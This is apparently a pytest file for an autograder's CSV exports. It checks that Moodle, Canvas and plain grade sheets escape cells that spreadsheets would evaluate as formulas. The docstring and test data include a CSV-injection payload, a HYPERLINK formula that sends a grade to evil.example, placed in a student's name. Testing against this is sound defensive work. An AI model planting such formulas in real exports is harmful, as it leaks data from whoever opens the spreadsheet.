"""Files instructors import: no CSV cell a spreadsheet reads as a formula (issue 30, "Files instructors import").

A Moodle participant's full name came back verbatim in the grading worksheet: `=HYPERLINK("http://evil.example/?g="
&E2,"Click for grade")` opened as a live formula, a link that sends a grade away. Every export (plain, Canvas,
Moodle) now prefixes a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return with `'` (OWASP's
advice); numbers stay numbers. What the importers read is unchanged: Moodle's (importgradeslib.php, transcribed in
test_moodle.moodle_import) reads only Identifier ("Participant N"), Grade, "Last modified (grade)" and the feedback
column, never the full name; Canvas's (gradebook_importer.rb) matches a student by the ID column first and parses
grades as numbers; neither column is text a student chose.
Run: .venv/bin/python -m pytest tests/test_csv_injection.py -q
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from autograder.reporting.sanitize import csv_cell
from conftest import NOTEBOOK
from coursetools.samples import make_submission
from helpers import TOTAL, notebook_bytes, run_cli
from test_moodle import FILE, moodle_import, moodle_zip, worksheet

FORMULAS = [
    '=HYPERLINK("http://evil.example/?g="&E2,"Click for grade")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]
MALLORY, ADA, EVE = "1000007", "1000001", "1000008"


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_prefixed(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("number", ["12", "0", "7.5", "-1", "+3", "1e3", "0.25"])
def test_numbers_stay_numbers(number):
    assert csv_cell(number) == number
    assert csv_cell(float(number)) == str(float(number))


@pytest.mark.parametrize("text", ["Ada Lovelace", "", "Participant 1000001", "a=b", "12 / 12 points"])
def test_ordinary_text_is_left_alone(text):
    assert csv_cell(text) == text


def _formula_cells(path: Path) -> list[str]:
    """Cells that a spreadsheet would evaluate: they start like a formula and are not plain numbers."""
    found = []
    for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
        for cell in row:
            if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


@pytest.fixture(scope="module")
def graded_moodle_class(tmp_path_factory):
    """Three Moodle participants: Mallory and Eve, whose full names in the worksheet are formulas, and Ada."""
    root = tmp_path_factory.mktemp("csv")
    when = (2026, 11, 30, 10, 0, 0)
    archive = moodle_zip(
        root / "moodle.zip",
        {
            f"Ada Lovelace_{ADA}_{FILE}/{NOTEBOOK}.ipynb": (notebook_bytes(), when),
            f"Mallory Evil_{MALLORY}_{FILE}/{NOTEBOOK}.ipynb": (notebook_bytes(make_submission(NOTEBOOK)), when),
            f"Eve Tab_{EVE}_{FILE}/{NOTEBOOK}.ipynb": (notebook_bytes(), when),
        },
    )
    sheet = worksheet(
        root / "worksheet.csv",
        [
            (ADA, "Ada Lovelace", "Submitted for grading", "-"),
            (MALLORY, FORMULAS[0], "Submitted for grading", "-"),
            (EVE, "@SUM(A1:A9)", "Submitted for grading", "-"),
        ],
    )
    work = root / "grading"
    done = run_cli("grade", str(archive), "--workdir", str(work), "--roster", str(sheet))
    assert done.returncode == 0, done.stdout + done.stderr
    return root, work, sheet


def test_the_moodle_worksheet_neutralises_a_full_name_and_moodle_still_reads_the_grades(graded_moodle_class):
    root, work, sheet = graded_moodle_class
    out = root / "moodle.csv"
    done = run_cli("export", "--workdir", str(work), "--out", str(out), "--format", "moodle", "--roster", str(sheet))
    assert done.returncode == 0, done.stdout + done.stderr
    assert not _formula_cells(out), f"formulas in the Moodle worksheet: {_formula_cells(out)}"
    rows = {row["Identifier"]: row for row in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))}
    assert rows[f"Participant {MALLORY}"]["Full name"] == "'" + FORMULAS[0]
    assert rows[f"Participant {EVE}"]["Full name"] == "'@SUM(A1:A9)"
    assert rows[f"Participant {ADA}"]["Full name"] == "Ada Lovelace"
    taken = moodle_import(out.read_text(encoding="utf-8"), {ADA, MALLORY, EVE})
    assert {p: row["grade"] for p, row in taken.items()} == {ADA: TOTAL, MALLORY: TOTAL, EVE: TOTAL}


def test_the_plain_and_canvas_exports_hold_no_formula_and_numbers_stay_numbers(graded_moodle_class):
    root, work, _ = graded_moodle_class
    plain, canvas = root / "grades.csv", root / "canvas.csv"
    assert run_cli("export", "--workdir", str(work), "--out", str(plain)).returncode == 0
    done = run_cli("export", "--workdir", str(work), "--out", str(canvas), "--format", "canvas")
    assert done.returncode == 0, done.stdout + done.stderr
    for path in (plain, canvas):
        assert not _formula_cells(path), f"formulas in {path.name}: {_formula_cells(path)}"
    scores = [row["score"] for row in csv.DictReader(io.StringIO(plain.read_text(encoding="utf-8")))]
    assert scores and all(float(score) == TOTAL for score in scores), scores
    rows = list(csv.reader(io.StringIO(canvas.read_text(encoding="utf-8"))))
    assert rows[1][0] == "Points Possible" and float(rows[1][5]) == TOTAL
    assert all(float(row[5]) == TOTAL for row in rows[2:]), "Canvas reads a grade as a number"
